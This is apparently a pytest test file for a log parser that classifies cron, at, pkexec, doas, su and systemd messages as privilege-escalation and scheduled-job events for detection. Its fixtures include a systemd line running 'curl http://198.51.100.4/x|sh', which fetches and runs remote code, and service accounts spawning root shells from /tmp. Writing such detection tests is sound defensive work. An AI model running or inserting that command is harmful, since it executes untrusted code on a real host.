import pytest

from hemostat.model.records import LogEvent, TypedCommand
from hemostat.parse.logs.messages import Event, Job
from hemostat.parse.logs.programs import read_message
from parse.logs.made_logs import read

pytestmark = pytest.mark.requirement("B3")


@pytest.mark.parametrize(
    ("program", "message", "kind", "account", "detail"),
    [
        ("crontab", "(www-data) REPLACE (www-data)", "crontab_replaced", "www-data", ""),
        ("atd", "Starting job 3 (a00003) for user 'nginx' (33)", "at_job", "nginx", ""),
        (
            "pkexec",
            "ann: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=/bin/sh]",
            "sudo",
            "ann",
            "/bin/sh",
        ),
        ("doas", "nginx ran command /bin/sh as root from /tmp", "sudo", "nginx", "/bin/sh"),
        ("su", "pam_unix(su:session): session opened for user root by (uid=33)", "su", "#33", ""),
    ],
)
def test_what_a_program_says(
    program: str, message: str, kind: str, account: str, detail: str
) -> None:
    said = read_message(program, message)
    assert isinstance(said, Event)
    assert (said.kind, said.account, said.detail) == (kind, account, detail)


@pytest.mark.parametrize(
    "message",
    [
        "Started /bin/sh -c curl http://198.51.100.4/x|sh.",
        "Started run-r1a.service - /bin/sh -c curl http://198.51.100.4/x|sh.",
    ],
)
def test_a_transient_unit_is_a_job(message: str) -> None:
    said = read_message("systemd", message)
    assert said == Job("root", "/bin/sh -c curl http://198.51.100.4/x|sh")


def test_the_complaint_of_pkexec_is_a_hole_that_was_tried() -> None:
    line = "The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=?]"
    said = read_message("pkexec", f"www-data: {line}")
    assert isinstance(said, Event)
    assert said.kind == "started_without_arguments"


def test_listing_and_reading_a_crontab_says_nothing() -> None:
    assert read_message("crontab", "(root) LIST (root)") is None
    assert read_message("systemd", "Started Daily apt activities.") is None


def test_red_hats_cron_is_read() -> None:
    (typed,) = read("Nov 20 02:59:59 web CROND[7]: (root) CMD (/opt/x)\n").records
    assert isinstance(typed, TypedCommand | LogEvent)
